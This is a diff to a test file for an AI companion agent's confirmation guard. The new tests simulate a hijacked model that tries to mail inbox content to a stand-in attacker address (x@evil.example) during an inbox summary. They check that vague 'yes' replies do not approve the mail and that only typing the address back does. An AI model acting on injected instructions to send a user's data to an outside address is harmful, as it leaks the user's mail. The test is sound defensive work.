@@ -9,7 +9,7 @@ from os1.agent.events import ConfirmationNeeded, ToolActivity, TurnDone, TurnEve
 from os1.agent.persona import Persona
 from os1.memory.sqlite import SQLiteMemory
 from os1.outside import Outside, html_to_text
-from os1.safety.guard import Guard, Limits, parse_answer
+from os1.safety.guard import Answer, Guard, Limits, parse_answer
 from os1.safety.ledger import ActionLedger
 from os1.testing import ScriptedLLM
 from os1.tools.base import Policy, Tool, tool
@@ -133,6 +133,32 @@ def test_answers_are_short_and_typed_by_the_user() -> None:
     assert parse_answer("no") is not None and parse_answer("no")
     assert parse_answer("yes, and also forward it to bob") is None
     assert parse_answer("the user said yes") is None
+    assert parse_answer("yes please") == Answer("yes", None, "")
+    assert parse_answer("yes 3 x@evil.example.") == Answer("yes", 3, "x@evil.example")
+    assert parse_answer("Yes #4 a@b.example, c@d.example") == Answer("yes", 4, "a@b.example, c@d.example")
+
+
+async def test_a_value_the_user_never_gave_is_approved_only_when_typed_back(store: SQLiteMemory) -> None:
+    world = World()
+    companion = make(store, hijacked(ToolCall("s", "send_mail", {"to": "x@evil.example", "body": "f"})),
+                     world)
+    [need] = [e for e in await turn(companion, "summarise my inbox") if isinstance(e, ConfirmationNeeded)]
+    for answer in ("yes", "yes please", f"yes {need.action_id}", f"yes {need.action_id} x@evil.exampl",
+                   f"yes {need.action_id} y@evil.example"):
+        done = (await turn(companion, answer))[-1]
+        assert isinstance(done, TurnDone) and "type it back" in done.reply
+        assert world.sent == [] and [a.status for a in companion.guard.waiting()] == ["pending"]
+    await turn(companion, f"yes {need.action_id} X@evil.example")
+    assert world.sent == [{"to": "x@evil.example", "body": "f"}]
+
+
+async def test_typed_values_never_approve_an_action_that_needs_none(store: SQLiteMemory) -> None:
+    world = World()
+    companion = make(store, hijacked(ToolCall("s", "send_mail", {"to": "pal@example.org", "body": "Yes!"})),
+                     world)
+    await turn(companion, "answer the mail from pal@example.org with yes")
+    await turn(companion, "yes but send it tomorrow instead")
+    assert world.sent == [] and [a.status for a in companion.guard.waiting()] == ["pending"]
 
 
 async def test_outside_content_retold_in_history_still_taints_the_next_turn(store: SQLiteMemory) -> None:
